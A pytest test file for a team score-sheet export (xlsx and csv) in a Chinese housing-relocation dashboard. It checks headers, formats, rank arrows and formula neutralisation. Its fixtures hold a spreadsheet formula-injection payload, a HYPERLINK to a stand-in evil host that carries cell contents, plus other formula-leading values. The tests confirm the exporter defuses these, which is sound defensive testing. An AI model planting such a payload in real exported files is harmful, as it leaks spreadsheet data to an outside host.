"""The 成绩单 export: xlsx opened with openpyxl, csv with its BOM, and formula neutralising."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from lib import metrics, schema
from lib.figures import scoresheet

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'

BLOCKS = pd.DataFrame({"block_id": ["A"], "name": ["+甲地块"], "launch_date": [date(2024, 1, 1)]})
TEAMS = pd.DataFrame({
    "team_id": ["good", "evil"],
    "name": ["新港社区工作组", EVIL],
    "organisation": ["新港社区", "@SUM(1+1)"],
    "kind": ["工作组", "工作组"],
    "block_id": ["A", "A"],
})


def _household(hid: str, team: str, sealed: str | None) -> dict:
    dates = {f"date_{s}": pd.NaT for s in schema.STAGES}
    if sealed:
        dates["date_signed"] = dates["date_sealed"] = pd.Timestamp(sealed)
    return {"household_id": hid, "block_id": "A", "team_id": team, "address": "x", "property_type": "住宅",
            "ownership": "私产", "owner_name": "-陈月兰", "flags": "", **dates}


HH = pd.DataFrame([
    _household("g1", "good", "2024-01-05"), _household("g2", "good", "2024-01-13"),
    _household("e1", "evil", "2024-01-02"), _household("e2", "evil", None),
    _household("e3", "evil", None), _household("e4", "evil", None),
])
ASOF = date(2024, 1, 20)


@pytest.fixture
def board() -> pd.DataFrame:
    return metrics.team_board(HH, TEAMS, BLOCKS, ASOF)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+86 591", "'+86 591"), ("-3", "'-3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("新港社区", "新港社区"), ("a=b", "a=b"), ("", ""), ("–", "–"),
    (-3, -3), (1.5, 1.5), (None, None), (date(2024, 1, 1), date(2024, 1, 1)),
])
def test_neutralise_touches_only_formula_texts(value, expected):
    assert schema.neutralise(value) == expected


def test_neutralise_is_idempotent():
    assert schema.neutralise(schema.neutralise("=1")) == "'=1"


def _sheet(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return wb, wb[wb.sheetnames[0]]


def test_xlsx_title_headers_and_frozen_header(board):
    wb, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20))
    assert ws.title == "成绩单"
    assert ws["A1"].value == "工作组排行成绩单（截至 2024-01-20，攻坚第 20 天）"
    assert [c.value for c in ws[2]] == [
        "排名", "升降", "工作组", "单位", "地块", "分配户数", "已签约", "已封房", "封房率", "得分",
        "今日封房", "近7日封房", "无新增天数", "后进", "后进原因", "完成日期", "完成天数",
    ]
    assert ws.freeze_panes == "A3"
    assert ws.max_row == 4
    assert wb.sheetnames[1] == "排名规则" and "得分 = 封房率 × 100" in wb[wb.sheetnames[1]]["A2"].value


def test_xlsx_values_and_number_formats(board):
    _, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20))
    good = [c.value for c in ws[3]]
    assert good[:3] == [1, 0, "新港社区工作组"]
    assert good[5:12] == [2, 2, 2, 1.0, 100.0, 0, 0]
    assert good[12:15] == [None, None, None]
    assert good[15].date() == date(2024, 1, 13) and good[16] == 13
    assert ws["I3"].number_format == "0.00%" and ws["J3"].number_format == "0.00"
    assert ws["P3"].number_format == "yyyy-mm-dd"
    assert ws["B3"].number_format == '"▲"0;"▼"0;"–"'
    evil = [c.value for c in ws[4]]
    assert evil[0] == 2 and evil[8] == 0.25 and evil[12] == 18
    assert evil[13] == "是" and evil[14] == "连续 18 天无新增封房；封房率低于本地块 25 个百分点"  # block 3/6
    assert ws.column_dimensions["C"].width >= 16  # wide enough for the team name


def test_xlsx_neutralises_ledger_texts(board):
    _, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20))
    texts = [c.value for row in ws.iter_rows(min_row=3) for c in row]
    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts and "'+甲地块" in texts
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere


def test_csv_has_bom_headers_and_screen_values(board):
    data = scoresheet.scoresheet_csv(board)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:5] == ["排名", "升降", "工作组", "单位", "地块"]
    assert rows[1][:3] == ["1", "–", "新港社区工作组"]
    assert rows[1][8] == "100.00%" and rows[1][15] == "2024-01-13" and rows[1][16] == "13"
    assert rows[2][8] == "25.00%" and rows[2][13] == "是"
    assert rows[2][2] == "'" + EVIL and rows[2][3] == "'@SUM(1+1)" and rows[2][4] == "'+甲地块"


def test_export_matches_the_board_order_and_rank_change(board):
    rows = scoresheet.scoresheet_rows(board)
    assert [r[2] for r in rows] == ["新港社区工作组", "'" + EVIL]
    assert [r[0] for r in rows] == board["rank"].tolist()


def test_rank_change_format_round_trip():
    b = metrics.team_board(HH, TEAMS, BLOCKS, ASOF)
    b.loc[0, "rank_change"] = 2
    b.loc[1, "rank_change"] = -1
    rows = list(csv.reader(io.StringIO(scoresheet.scoresheet_csv(b).decode("utf-8-sig"))))
    assert [rows[1][1], rows[2][1]] == ["▲2", "▼1"]
    _, ws = _sheet(scoresheet.scoresheet_xlsx(b, ASOF, 20))
    assert [ws["B3"].value, ws["B4"].value] == [2, -1]


def test_empty_board_exports_headers_only():
    empty = metrics.team_board(HH.iloc[:0], TEAMS, BLOCKS, ASOF)
    _, ws = _sheet(scoresheet.scoresheet_xlsx(empty, ASOF, 20))
    assert ws.max_row == 2
    assert scoresheet.scoresheet_csv(empty).decode("utf-8-sig").count("\r\n") == 1


def test_english_sheet_when_asked(board):
    _, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20, lang="en"))
    assert ws["A1"].value == "Team score sheet (as of 2024-01-20, campaign day 20)"
    assert ws["A2"].value == "Rank"
    assert scoresheet.file_name(ASOF, "xlsx") == "成绩单-2024-01-20.xlsx"
